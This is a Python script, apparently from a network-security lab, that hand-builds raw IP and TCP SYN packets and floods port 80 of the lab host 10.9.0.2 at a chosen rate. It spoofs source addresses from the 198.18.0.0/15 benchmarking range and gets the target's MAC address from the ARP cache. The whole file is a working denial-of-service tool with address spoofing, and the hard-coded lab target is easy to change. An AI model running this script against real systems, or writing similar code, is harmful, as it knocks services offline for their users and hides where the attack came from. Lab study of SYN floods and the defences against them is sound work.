"""Sends SYNs to port 80 of 10.9.0.2 from addresses that nobody has: synflood.py INTERFACE COUNT PER-SECOND"""

import random
import socket
import struct
import sys
import time


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(hardware, source):
    target = socket.inet_aton("10.9.0.2")
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 44, 0, 0x4000, 64, 6, 0, source, target)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    port, number = random.randrange(1024, 65536), random.getrandbits(32)
    tcp = struct.pack("!HHIIBBHHHI", port, 80, number, 0, 0x60, 2, 65535, 0, 0, 0x020405B4)
    pseudo = source + target + struct.pack("!HH", 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    return hardware + ip + tcp


def server():
    for line in open("/proc/net/arp"):
        words = line.split()
        if words[0] == "10.9.0.2":
            return bytes.fromhex(words[3].replace(":", ""))
    sys.exit("the kernel does not know who has 10.9.0.2: ask it something first")


def main():
    interface, count, rate = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    random.seed(9)
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    wire.bind((interface, 0))
    own = wire.getsockname()[4]
    hardware = server() + own + b"\x08\x00"
    start = time.monotonic()
    for number in range(count):
        # Addresses for documentation and tests (RFC 2544, RFC 5737).
        source = struct.pack("!I", 0xC6120000 + random.getrandbits(17))
        wire.send(syn(hardware, source))
        if number % 100 == 99:
            time.sleep(max(0, start + number / rate - time.monotonic()))
    print(f"{count} SYNs in {time.monotonic() - start:.1f} s")


if __name__ == "__main__":
    main()
